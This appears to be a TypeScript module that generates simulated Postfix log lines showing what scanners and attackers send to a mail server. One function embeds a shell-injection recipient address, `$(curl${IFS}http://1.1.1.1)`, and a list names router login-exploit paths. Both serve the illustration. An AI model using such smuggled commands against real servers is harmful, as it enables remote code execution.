/** What attackers say to Postfix and what it logs of that; one reject or warning a session. */
import type { Random } from '../random.ts';
import { SPAMERI } from '../stories.ts';

export interface Exchange {
  /** The client's verified name, `unknown` for most. */
  readonly name: string;
  /** The part of Postfix that talks: `smtpd` or `submission/smtpd`. */
  readonly program: string;
  /** With `CLIENT` where Postfix names the client. */
  readonly line: string;
  /** What the line of the disconnect counts. */
  readonly commands: string;
}

const UNKNOWN = { name: 'unknown', program: 'smtpd' } as const;
const NOTHING_UNDERSTOOD = 'unknown=0/1 commands=0/1';
const REJECTED = 'ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4';

const WEB_REQUESTS = [
  'GET / HTTP/1.1',
  'GET /cgi-bin/login.cgi HTTP/1.1',
  'GET / HTTP/1.0',
  'POST /boaform/admin/formLogin HTTP/1.1',
  'HEAD / HTTP/1.1',
  'OPTIONS / HTTP/1.1',
];

/** HTTP, spoken to port 25. */
export function http(address: string, random: Random): Exchange {
  const line = `warning: non-SMTP command from CLIENT: ${random.pick(WEB_REQUESTS)}`;
  const name = random.chance(0.2) ? `ec2-${address.replaceAll('.', '-')}.compute.example` : 'unknown';
  return { ...UNKNOWN, name, line, commands: NOTHING_UNDERSTOOD };
}

const GARBAGE = [
  '\\003\\000\\000/*\\340\\000\\000\\000\\000\\000Cookie: mstshash=Administr',
  '\\001\\000\\000\\000\\001\\000\\000\\000',
  '*1',
  '\\000\\036\\000\\006\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000\\aversion\\004bind\\000\\000\\020\\000\\003',
];

/** Remote desktop, Redis, DNS, whatever. */
export function binary(_address: string, random: Random): Exchange {
  const line = `warning: non-SMTP command from CLIENT: ${random.pick(GARBAGE)}`;
  return { ...UNKNOWN, line, commands: NOTHING_UNDERSTOOD };
}

/** TLS at once, on the port that begins in plain text. */
export function handshake(_address: string, random: Random): Exchange {
  const hello = `\\026\\003\\001\\000\\3${random.whole(10, 77)}\\001\\000\\000\\352\\003\\003`;
  return {
    ...UNKNOWN,
    line: `improper command pipelining after CONNECT from CLIENT: ${hello}`,
    commands: NOTHING_UNDERSTOOD,
  };
}

/** The misconfigured spam script of the article. */
export function pipelining(_address: string, random: Random): Exchange {
  const letter = random.pick(['a', 'b', 'c', 'd']);
  const recipient = `${letter.repeat(3)}bb$(curl\${IFS}http://1.1.1.1)`;
  const why = 'Recipient address rejected: Improper use of SMTP command pipelining';
  const envelope = `from=<aaaa@mail.domain.com> to=<"${recipient}"@mail.domain.com>`;
  return {
    ...UNKNOWN,
    line: `NOQUEUE: reject: RCPT from CLIENT: 503 5.5.0 <${recipient}@mail.domain.com>: ${why}; ${envelope} proto=ESMTP helo=<localhost>`,
    commands: REJECTED,
  };
}

export function helo(_address: string, random: Random): Exchange {
  const name = `WIN-${random.pick(['K3V8', 'QJ2P', '7TR0', 'B1MD'])}${random.pick(['4LNC', 'E9XA', 'SU6H'])}3F1`;
  const envelope = `from=<office@example.net> to=<info@example.org>`;
  return {
    ...UNKNOWN,
    line: `NOQUEUE: reject: RCPT from CLIENT: 450 4.7.1 <${name}>: Helo command rejected: Host not found; ${envelope} proto=ESMTP helo=<${name}>`,
    commands: REJECTED,
  };
}

/** Mail for somewhere else: spameri's to himself, as always, or somebody's to a mailbox that he reads. */
export function relay(address: string, random: Random): Exchange {
  const spameri = address === SPAMERI;
  const sender = spameri ? 'spameri@tiscali.it' : `test${random.whole(1, 40)}@example.com`;
  const recipient = spameri ? sender : `relay.check${random.whole(1, 9)}@example.net`;
  const greeting = spameri ? 'WIN-4TTI4DH7SGH' : `host${random.whole(1, 99)}.example.com`;
  const envelope = `from=<${sender}> to=<${recipient}> proto=ESMTP helo=<${greeting}>`;
  return {
    ...UNKNOWN,
    line: `NOQUEUE: reject: RCPT from CLIENT: 454 4.7.1 <${recipient}>: Relay access denied; ${envelope}`,
    commands: 'ehlo=1 mail=1 rcpt=0/1 rset=1 quit=1 commands=4/5',
  };
}

export function recipient(_address: string, random: Random): Exchange {
  const mailbox = `${random.pick(['anna', 'jobs', 'press', 'hr', 'marketing'])}@example.org`;
  const why = 'Recipient address rejected: User unknown in virtual mailbox table';
  const envelope = `from=<news@example.net> to=<${mailbox}> proto=ESMTP helo=<mx.example.net>`;
  return {
    ...UNKNOWN,
    line: `NOQUEUE: reject: RCPT from CLIENT: 550 5.1.1 <${mailbox}>: ${why}; ${envelope}`,
    commands: REJECTED,
  };
}
